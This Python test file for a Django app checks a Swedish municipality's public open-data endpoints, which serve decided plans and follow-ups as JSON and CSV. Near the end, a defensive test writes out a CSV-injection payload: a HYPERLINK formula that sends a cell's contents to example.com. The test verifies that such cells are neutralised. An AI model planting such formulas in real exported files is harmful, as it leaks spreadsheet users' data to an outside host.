"""Open data of the public view: the same decided plans and follow-ups as insyn shows, as JSON and
CSV in the documented format, without signing in; nothing while the public view is off."""

import csv
import datetime
import io
import json
from decimal import Decimal

from django.db import connection
from django.test.utils import CaptureQueriesContext

from styr.followup.models import Assessment, CorrectiveAction, Forecast
from styr.organisation.models import OrgUnit
from styr.planning.models import Goal, Indicator, Target
from styr.web import public as insyn
from styr.web.open_data import DATASETS, FORMAT_VERSION, csv_value
from tests.web.test_public import DRAFT_TITLE, period, public, told, unit  # noqa: F401


def base(stockholm) -> str:
    return f"/insyn/{stockholm.municipality.code}/data/"


def data(client, stockholm, dataset: str) -> dict:
    response = client.get(f"{base(stockholm)}{dataset}.json")
    assert response.status_code == 200, dataset
    assert response["Content-Type"].startswith("application/json")
    return json.loads(response.content)


def table(client, stockholm, dataset: str) -> list[dict]:
    """The CSV read as the format documents it: UTF-8 with BOM, semicolons."""
    response = client.get(f"{base(stockholm)}{dataset}.csv")
    assert response.status_code == 200, dataset
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";")
    assert reader.fieldnames == list(DATASETS[dataset].fields)
    return list(reader)


def test_everything_is_404_while_the_public_view_is_off(told, client):  # noqa: F811
    assert client.get(base(told)).status_code == 404
    for key in DATASETS:
        for fmt in ("json", "csv"):
            assert client.get(f"{base(told)}{key}.{fmt}").status_code == 404, (key, fmt)


def test_unknown_datasets_and_formats_are_404(public, client):  # noqa: F811
    for name in ("drafts.json", "goals.xml", "goals.JSON", "goals"):
        assert client.get(f"{base(public)}{name}").status_code == 404, name
    assert client.get("/insyn/9999/data/goals.json").status_code == 404


def test_the_index_lists_every_dataset_and_is_linked_from_the_public_pages(public, client):  # noqa: F811
    response = client.get(base(public))
    assert response.status_code == 200
    text = response.content.decode()
    assert "Öppna data från Stockholms stad" in text
    for key in DATASETS:
        for fmt in ("json", "csv"):
            assert f'href="/insyn/0180/data/{key}.{fmt}"' in text, (key, fmt)
    assert f"Formatversion {FORMAT_VERSION}" in text
    assert "Källa: Stockholms stad" in text
    sod = unit(public, "SDN-SOD")
    for url in ("/insyn/0180/", f"/insyn/0180/enheter/{sod.pk}/2026/"):
        assert 'href="/insyn/0180/data/"' in client.get(url).content.decode(), url


def test_json_has_the_format_version_and_the_documented_fields(public, client):  # noqa: F811
    for key, dataset in DATASETS.items():
        body = data(client, public, key)
        assert body["format_version"] == FORMAT_VERSION
        assert body["dataset"] == key
        assert body["municipality"] == {"code": "0180", "name": "Stockholms stad"}
        assert body["attribution"].startswith("Källa: Stockholms stad")
        assert body["fields"] == list(dataset.fields)
        assert body["rows"], key
        assert all(list(row) == list(dataset.fields) for row in body["rows"]), key


def test_the_goals_are_those_of_the_adopted_plans_and_no_draft(public, client):  # noqa: F811
    rows = data(client, public, "goals")["rows"]
    plans = {(row["unit_code"], row["plan_year"]) for row in rows}
    adopted = {(code, 2026) for code in ("KF", "SDN-SOD", "SDF-SOD", "SOD-ALD", "SOD-ROSENLUND")}
    assert ("KF", 2026) in plans and ("SDN-SOD", 2026) in plans and plans <= adopted
    codes = {row["goal_code"] for row in rows}
    assert "SOD-NM-1" in codes and "SOD-NM-UTKAST" not in codes
    assert "HAL-NM-1" not in codes  # Hägersten-Älvsjö's plan is only submitted
    assert DRAFT_TITLE not in json.dumps(rows, ensure_ascii=False)
    nm1 = next(row for row in rows if row["goal_code"] == "SOD-NM-1")
    assert nm1["plan_adopted_on"] == "2025-12-10" and nm1["plan_reference"] == "§ 14"
    assert nm1["parent_goal_codes"] == ["VO-1"]  # the red thread up to KF's goal
    assert "Förbättrad uppföljningsdialog med de anhöriga" in nm1["goal_title"]
    assert "minst 82 procent" in nm1["texts"]["Förväntat resultat"]
    assert all(isinstance(row["focus_areas"], list) for row in rows)


def test_the_data_says_what_the_public_pages_show(public, client):  # noqa: F811
    """One way: every adopted plan's goals and the targets of its indicators, and a decided
    follow-up's assessments, are exactly those of the public selectors."""
    goals = data(client, public, "goals")["rows"]
    targets = data(client, public, "targets")["rows"]
    for plan in insyn.adopted_plans(municipality=public.municipality):
        page = insyn.public_plan(unit=plan.unit, year=plan.year)
        mine = [r for r in goals if (r["unit_code"], r["plan_year"]) == (plan.unit.code, plan.year)]
        assert [r["goal_code"] for r in mine] == [item.goal.code for item in page.goals]
        shown = {
            (item.goal.code, pi.indicator.code, t.kind, t.year)
            for item in page.goals
            for pi in item.indicators
            for t in pi.targets
        }
        got = {
            (r["goal_code"], r["indicator_code"], r["target_kind"], r["target_year"])
            for r in targets
            if (r["unit_code"], r["plan_year"]) == (plan.unit.code, plan.year) and r["target_kind"]
        }
        assert got == shown, plan.unit.code
    sod, t1 = unit(public, "SDN-SOD"), period(public, "t1")
    report = insyn.public_followup(unit=sod, period=t1)
    rows = [
        r
        for r in data(client, public, "assessments")["rows"]
        if r["unit_code"] == "SDN-SOD" and r["period_key"] == "t1" and r["period_year"] == 2026
    ]
    assert [(r["goal_code"], r["assessment_label"]) for r in rows] == [
        (item.goal.code, item.assessment.label) for item in report.goals
    ]


def test_the_follow_ups_are_the_decided_ones_as_decided(public, client):  # noqa: F811
    goal = public.get(Goal, "SOD-NM-1")
    decided = Assessment.objects.get(goal=goal, period=period(public, "t1"))
    before = decided.analysis
    decided.analysis = "En text som skrevs efter beslutet."
    decided.save()
    for key in ("outcomes", "assessments", "activities"):
        rows = data(client, public, key)["rows"]
        assert rows, key
        names = {row["period_name"] for row in rows}
        assert "Tertialrapport 1 2026" in names, key
        assert "Tertialrapport 2 2026" not in names, key  # reported, not decided
    rows = data(client, public, "assessments")["rows"]
    nm1 = next(
        r
        for r in rows
        if r["goal_code"] == "SOD-NM-1" and r["period_key"] == "t1" and r["period_year"] == 2026
    )
    assert nm1["analysis"] == before
    assert "En text som skrevs efter beslutet." not in json.dumps(rows, ensure_ascii=False)
    assert nm1["assessment_label"] and isinstance(nm1["assessment_is_met"], bool)
    outcomes = data(client, public, "outcomes")["rows"]
    assert {row["gender"] for row in outcomes} <= {"T", "K", "M"}
    assert all(isinstance(row["value"], int | float) for row in outcomes)


def test_forecasts_and_actions_are_those_the_decided_follow_ups_show(public, client):  # noqa: F811
    """Per unit and decided period: the forecasts (value and comment) and the åtgärder (what and
    by when) of the public follow-up page, and nothing of a period that is not decided."""
    forecasts = data(client, public, "forecasts")["rows"]
    actions = data(client, public, "actions")["rows"]
    assert forecasts and actions
    for rows in (forecasts, actions):
        names = {row["period_name"] for row in rows}
        assert "Tertialrapport 1 2026" in names
        assert "Tertialrapport 2 2026" not in names  # reported, not decided
    t1 = period(public, "t1")
    shown_forecasts, shown_actions = [], []
    for sod_unit in OrgUnit.objects.filter(municipality=public.municipality).order_by("path"):
        report = insyn.public_followup(unit=sod_unit, period=t1)
        shown_forecasts += [
            (
                sod_unit.code,
                row.indicator.code,
                None if row.forecast.value is None else float(row.forecast.value),
                row.forecast.comment,
            )
            for row in report.indicators
            if row.forecast
        ]
        shown_actions += [
            (sod_unit.code, item.goal.code, action.description, action.due_on.isoformat())
            for item in report.goals
            for action in item.assessment.actions
        ]
    mine = [(r["period_key"], r["period_year"]) == ("t1", 2026) for r in forecasts]
    got = [
        (
            r["unit_code"],
            r["indicator_code"],
            None if r["value"] is None else float(r["value"]),
            r["comment"],
        )
        for r, m in zip(forecasts, mine, strict=True)
        if m
    ]
    assert shown_forecasts and sorted(got, key=str) == sorted(shown_forecasts, key=str)
    assert any(comment for *_, comment in got)
    got = [
        (r["unit_code"], r["goal_code"], r["description"], r["due_on"])
        for r in actions
        if (r["period_key"], r["period_year"]) == ("t1", 2026)
    ]
    assert shown_actions and sorted(got) == sorted(shown_actions)
    # Who is responsible for an åtgärd is not shown in insyn, nor here.
    assert "responsible" not in DATASETS["actions"].fields
    responsible = set(CorrectiveAction.objects.values_list("responsible", flat=True))
    text = json.dumps(actions, ensure_ascii=False)
    assert responsible and not any(f'"{who}"' in text for who in responsible)


def test_forecasts_and_actions_are_as_decided(public, client):  # noqa: F811
    t1 = period(public, "t1")
    forecast = Forecast.objects.filter(period=t1).exclude(comment="").first()
    before = forecast.comment
    forecast.comment = "En prognos som skrevs efter beslutet."
    forecast.save()
    action = CorrectiveAction.objects.filter(assessment__period=t1).first()
    action.description = "En åtgärd som skrevs efter beslutet."
    action.save()
    CorrectiveAction.objects.create(
        municipality=public.municipality,
        assessment=action.assessment,
        description="En åtgärd som lades till efter beslutet.",
        responsible="Någon",
        due_on=datetime.date(2026, 12, 31),
    )
    text = json.dumps(data(client, public, "forecasts")["rows"], ensure_ascii=False)
    assert "efter beslutet" not in text and before in text
    text = json.dumps(data(client, public, "actions")["rows"], ensure_ascii=False)
    assert "efter beslutet" not in text


PERIOD_TEXT = ("period_key", "period_year", "period_name", "period_decided_on")


def test_csv_and_json_agree_on_forecasts_and_actions(public, client):  # noqa: F811
    forecasts = data(client, public, "forecasts")["rows"]
    assert forecasts
    for row, cell in zip(forecasts, table(client, public, "forecasts"), strict=True):
        assert [cell[f] for f in PERIOD_TEXT] == [str(row[f] or "") for f in PERIOD_TEXT]
        assert (row["unit_code"], row["indicator_code"], row["comment"]) == (
            cell["unit_code"],
            cell["indicator_code"],
            cell["comment"],
        )
        if row["value"] is None:
            assert cell["value"] == ""
        else:
            assert float(cell["value"].replace(",", ".")) == float(row["value"])
    actions = data(client, public, "actions")["rows"]
    assert actions
    for row, cell in zip(actions, table(client, public, "actions"), strict=True):
        assert [cell[f] for f in PERIOD_TEXT] == [str(row[f] or "") for f in PERIOD_TEXT]
        assert (cell["unit_code"], cell["goal_code"], cell["assessment_key"]) == (
            row["unit_code"],
            row["goal_code"],
            row["assessment_key"],
        )
        assert cell["due_on"] == row["due_on"] and cell["description"] == row["description"]


def test_csv_opens_in_the_documented_dialect_with_swedish_letters(public, client):  # noqa: F811
    response = client.get(f"{base(public)}goals.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="styr-0180-goals-v1.csv"'
    assert (
        client.get(f"{base(public)}goals.json")["Content-Disposition"]
        == 'inline; filename="styr-0180-goals-v1.json"'
    )
    units = table(client, public, "units")
    assert {"unit_code": "SDN-SOD", "unit_name": "Södermalms stadsdelsnämnd"}.items() <= next(
        row for row in units if row["unit_code"] == "SDN-SOD"
    ).items()
    goals = table(client, public, "goals")
    assert [r["goal_code"] for r in goals] == [
        r["goal_code"] for r in data(client, public, "goals")["rows"]
    ]
    assert any("|" in r["focus_areas"] for r in goals)
    # Decimals with a comma, as Swedish Excel reads them; same numbers as the JSON.
    json_values = [r["value"] for r in data(client, public, "outcomes")["rows"]]
    csv_values = [r["value"] for r in table(client, public, "outcomes")]
    assert [float(v.replace(",", ".")) for v in csv_values] == [float(v) for v in json_values]
    assert all("." not in v for v in csv_values)


def test_the_number_of_queries_does_not_grow_with_the_data(public, client):  # noqa: F811
    def queries() -> dict[str, int]:
        counts = {}
        for key in DATASETS:
            for fmt in ("json", "csv"):
                with CaptureQueriesContext(connection) as captured:
                    response = client.get(f"{base(public)}{key}.{fmt}")
                    if fmt == "csv":
                        b"".join(response.streaming_content)
                assert response.status_code == 200
                counts[f"{key}.{fmt}"] = len(captured)
        return counts

    before = queries()
    sizes = {key: len(data(client, public, key)["rows"]) for key in DATASETS}
    nm1 = public.get(Goal, "SOD-NM-1")
    t1 = period(public, "t1")
    value = Assessment.objects.filter(goal=nm1, period=t1).get().value
    for i in range(20):
        extra = Goal.objects.create(
            municipality=public.municipality,
            code=f"SOD-NM-EXTRA-{i}",
            level=nm1.level,
            unit=nm1.unit,
            title=f"Extra nämndmål {i}",
            texts=nm1.texts,
            valid_from=nm1.valid_from,
            valid_to=nm1.valid_to,
        )
        extra.parents.add(nm1, through_defaults={"municipality": public.municipality})
        extra.indicators.add(
            *nm1.indicators.all(), through_defaults={"municipality": public.municipality}
        )
        assessment = Assessment.objects.create(
            municipality=public.municipality, goal=extra, period=t1, value=value, analysis="Ok."
        )
        indicator = Indicator.objects.create(
            municipality=public.municipality, code=f"SOD-EXTRA-{i}", name="Extra", unit=nm1.unit
        )
        # Written in bulk, without history: taken as they are, so the decided period grows.
        CorrectiveAction.objects.bulk_create(
            CorrectiveAction(
                municipality=public.municipality,
                assessment=assessment,
                description=f"Åtgärd {i}:{n}",
                responsible="Någon",
                due_on=datetime.date(2026, 9, 30),
            )
            for n in range(2)
        )
        Forecast.objects.bulk_create(
            [
                Forecast(
                    municipality=public.municipality,
                    indicator=indicator,
                    unit=nm1.unit,
                    period=t1,
                    value=Decimal(i),
                )
            ]
        )
        Assessment.history.filter(id=assessment.pk).delete()
    after = queries()
    assert after == before
    assert len(data(client, public, "goals")["rows"]) > 20
    grown = {key: len(data(client, public, key)["rows"]) for key in DATASETS}
    assert grown["assessments"] == sizes["assessments"] + 20
    assert grown["actions"] == sizes["actions"] + 40
    assert grown["forecasts"] == sizes["forecasts"] + 20


def test_with_nothing_decided_the_datasets_are_empty_but_there(stockholm, client):
    stockholm.municipality.public_view = True
    stockholm.municipality.save(update_fields=["public_view"])
    for key in DATASETS:
        rows = data(client, stockholm, key)["rows"]
        assert len(table(client, stockholm, key)) == len(rows), key
        assert bool(rows) == (key == "units"), key


def test_text_that_would_be_a_formula_is_guarded_in_csv_but_numbers_and_json_are_not(
    public,  # noqa: F811
    client,
):
    """CSV injection: a text cell beginning with = + - @ gets a leading apostrophe, by the type of
    its column; a negative number stays a number and the JSON keeps the text as written."""
    formula = '=HYPERLINK("https://example.com/?q="&A1;"Klicka")'
    goal = public.get(Goal, "SOD-NM-1")
    goal.title = formula
    goal.save()
    # The analysis as it stood when tertial 1 was decided (the open data shows that one).
    decided = Assessment.objects.get(goal=goal, period=period(public, "t1"))
    Assessment.history.filter(id=decided.pk).update(analysis="-10 % mot förra året.")
    # A forecast's comment and an åtgärd are text too, as they stood at the decision.
    forecast = Forecast.objects.filter(period=period(public, "t1")).first()
    Forecast.history.filter(id=forecast.pk).update(comment="+5 % enligt prognos.")
    action = CorrectiveAction.objects.filter(assessment__period=period(public, "t1")).first()
    CorrectiveAction.history.filter(id=action.pk).update(description="@Rektor följer upp.")
    target = Target.objects.filter(
        indicator__goals=goal, year=2026, kind=Target.Kind.ANNUAL
    ).first()
    Target.objects.filter(pk=target.pk).update(value=Decimal("-3.5"))

    goals = [r for r in table(client, public, "goals") if r["goal_code"] == "SOD-NM-1"]
    assert goals and {r["goal_title"] for r in goals} == {"'" + formula}
    rows = [
        r
        for r in table(client, public, "assessments")
        if r["goal_code"] == "SOD-NM-1" and r["period_key"] == "t1" and r["period_year"] == "2026"
    ]
    assert [(r["goal_title"], r["analysis"]) for r in rows] == [
        ("'" + formula, "'-10 % mot förra året.")
    ]
    targets = [
        r
        for r in table(client, public, "targets")
        if r["indicator_code"] == target.indicator.code and r["target_kind"] == "annual"
    ]
    assert targets and {r["target_value"] for r in targets} == {"-3,5"}
    assert "'+5 % enligt prognos." in [r["comment"] for r in table(client, public, "forecasts")]
    assert "'@Rektor följer upp." in [r["description"] for r in table(client, public, "actions")]
    assert "+5 % enligt prognos." in [
        r["comment"] for r in data(client, public, "forecasts")["rows"]
    ]
    assert "@Rektor följer upp." in [
        r["description"] for r in data(client, public, "actions")["rows"]
    ]
    # JSON as written.
    rows = data(client, public, "assessments")["rows"]
    assert {r["goal_title"] for r in rows if r["goal_code"] == "SOD-NM-1"} == {formula}
    assert "-10 % mot förra året." in [r["analysis"] for r in rows]
    targets = data(client, public, "targets")["rows"]
    assert -3.5 in [r["target_value"] for r in targets]


def test_csv_cells_are_guarded_by_type_not_by_value():
    assert [csv_value(v) for v in ("@SUM(A1)", "+46 8 508 000", "\tx", "\rx", "Mål -1")] == [
        "'@SUM(A1)",
        "'+46 8 508 000",
        "'\tx",
        "'\rx",
        "Mål -1",
    ]
    assert [csv_value(v) for v in (Decimal("-3.5"), -2, datetime.date(2026, 1, 1))] == [
        "-3,5",
        "-2",
        "2026-01-01",
    ]
    assert csv_value(["-A", "B"]) == "'-A|B"
    assert csv_value({"=Rubrik": "text"}) == "'=Rubrik: text"
